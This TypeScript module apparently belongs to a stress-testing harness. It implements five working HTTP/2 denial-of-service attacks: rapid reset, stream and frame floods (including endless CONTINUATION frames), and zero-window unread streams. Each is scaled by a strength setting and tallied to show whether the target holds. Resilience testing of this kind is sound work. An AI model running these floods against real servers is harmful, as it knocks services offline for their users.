import { setTimeout as sleep } from 'node:timers/promises'
import { type Assault, type Attack, count, type Strength, scaled, type Tally, type Target } from './attack.ts'
import {
  continuation,
  greeting,
  headersOf,
  openEndless,
  openStream,
  pingFrame,
  resetStream,
  settingsFrame,
} from './frames.ts'
import { openWire, type Wire } from './wire.ts'

/** What HTTP/2 makes cheap for a client. */
export const frameAttacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    what: '100,000 streams opened and reset at once, over ten connections that are made anew as they are closed',
    outcomes: ['streams', 'connections', 'closed'],
    proof: ['closed'],
    begin: (target, strength) => rapidReset(target, strength),
  },
  {
    name: 'stream flood',
    what: 'ten connections that open a thousand streams at once, five times what they may, again and again',
    outcomes: ['streams', 'connections', 'closed'],
    proof: ['closed'],
    begin: (target, strength) => {
      const headers = headersOf('/v2/agents', target.key)
      return flood(target, strength, async (wire) => {
        wire.socket.write(greeting())
        wire.socket.write(Buffer.concat(streamNumbers(1_000).map((stream) => openStream(stream, headers))))
        await sleep(500)
        return 1_000
      })
    },
  },
  {
    name: 'streams at their bound',
    what: 'ten connections that ask for 200 things at once, with a key that works, and for 200 more when they have them',
    outcomes: ['streams', 'connections', 'closed'],
    proof: ['streams'],
    begin: (target, strength) => {
      const headers = headersOf('/v2/agents', target.key)
      return flood(target, strength, (wire) => askAtTheBound(wire, headers))
    },
  },
  {
    name: 'frame flood',
    what: 'ten connections with pings, settings and headers without end, as fast as they are taken',
    outcomes: ['streams', 'connections', 'closed'],
    proof: ['connections'],
    begin: (target, strength) => {
      let turn = 0
      return flood(target, strength, (wire) => spill(wire, turn++))
    },
  },
  {
    name: 'unread answers',
    what: '50 connections with 200 streams each that take not one byte of their answers',
    outcomes: ['streams', 'connections', 'closed'],
    proof: ['streams'],
    begin: (target, strength) => leaveUnread(target, strength),
  },
]

const connections = 10
const streamsInAll = 100_000
const batch = 50
const unreadConnections = 50
const streamsPerConnection = 200

const streamNumbers = (most: number, from = 0): number[] => Array.from({ length: most }, (_, at) => 2 * (from + at) + 1)

const rapidReset = async (target: Target, strength: Strength): Promise<Assault> => {
  const headers = headersOf('/v2/agents', target.key)
  const most = scaled(streamsInAll, strength)
  let opened = 0
  return flood(target, strength, async (wire) => {
    wire.socket.write(greeting())
    let own = 0
    while (!wire.isClosed() && opened < most) {
      const streams = streamNumbers(batch, own)
      wire.socket.write(Buffer.concat(streams.flatMap((stream) => [openStream(stream, headers), resetStream(stream)])))
      own += batch
      opened += batch
      await sleep(1)
    }
    // All of them are sent; the remaining time is for cleaning up.
    if (opened >= most) await sleep(200)
    return own
  })
}

/** Does the same on this many connections at once and replaces each when it ends. */
const flood = async (target: Target, strength: Strength, act: (wire: Wire) => Promise<number>): Promise<Assault> => {
  const tally: Tally = {}
  let isOver = false
  const work = async (): Promise<void> => {
    while (!isOver) {
      const wire = await openWire(target, { protocol: 'h2' })
      if (!wire) {
        count(tally, 'closed')
        await sleep(50)
        continue
      }
      count(tally, 'connections')
      count(tally, 'streams', await act(wire))
      if (wire.isClosed()) count(tally, 'closed')
      wire.socket.destroy()
    }
  }
  const working = Array.from({ length: scaled(connections, strength) }, work)
  return {
    stop: async () => {
      isOver = true
      await Promise.all(working)
      return tally
    },
  }
}

/** Each answer is small, so it is enough to wait until so much has come. */
const askAtTheBound = async (wire: Wire, headers: Buffer): Promise<number> => {
  let received = 0
  wire.socket.on('data', (piece: Buffer) => {
    received += piece.length
  })
  wire.socket.write(greeting({ window: 2 ** 31 - 1 }))
  wire.socket.write(Buffer.concat(streamNumbers(streamsPerConnection).map((stream) => openStream(stream, headers))))
  const endMs = performance.now() + 2_000
  while (!wire.isClosed() && performance.now() < endMs && received < 200 * streamsPerConnection) await sleep(10)
  return streamsPerConnection
}

/** One kind of frame for each turn, until the connection is closed or a second has passed. */
const spill = async (wire: Wire, turn: number): Promise<number> => {
  const headers = headersOf('/v2/agents')
  const endless = Buffer.concat(Array.from({ length: 200 }, () => continuation(1, Buffer.from([0, 1, 120, 1, 120]))))
  const pieces = [
    Buffer.concat(Array.from({ length: 200 }, () => pingFrame)),
    Buffer.concat(Array.from({ length: 200 }, () => settingsFrame)),
    endless,
  ]
  const piece = pieces[turn % pieces.length] ?? endless
  wire.socket.write(greeting())
  if (piece === endless) wire.socket.write(openEndless(1, headers))
  // Nothing is read, so that the answers to it pile up where they are made.
  wire.socket.pause()
  const endMs = performance.now() + 1_000
  while (!wire.isClosed() && performance.now() < endMs) {
    if (wire.socket.writableLength < 1_000_000) wire.socket.write(piece)
    await sleep(5)
  }
  // A connection that is not read is not seen to close either.
  wire.socket.resume()
  await sleep(50)
  return 1
}

const leaveUnread = async (target: Target, strength: Strength): Promise<Assault> => {
  const tally: Tally = {}
  const wires: Wire[] = []
  for (let n = 0; n < scaled(unreadConnections, strength); n++) {
    const wire = await openWire(target, { protocol: 'h2' })
    if (!wire) {
      count(tally, 'closed')
      continue
    }
    const headers = headersOf('/docs/errors')
    wire.socket.write(greeting({ window: 0 }))
    wire.socket.write(Buffer.concat(streamNumbers(streamsPerConnection).map((stream) => openStream(stream, headers))))
    count(tally, 'connections')
    count(tally, 'streams', streamsPerConnection)
    wires.push(wire)
  }
  return {
    stop: async () => {
      for (const wire of wires) {
        if (wire.isClosed()) count(tally, 'closed')
        wire.socket.destroy()
      }
      return tally
    },
  }
}
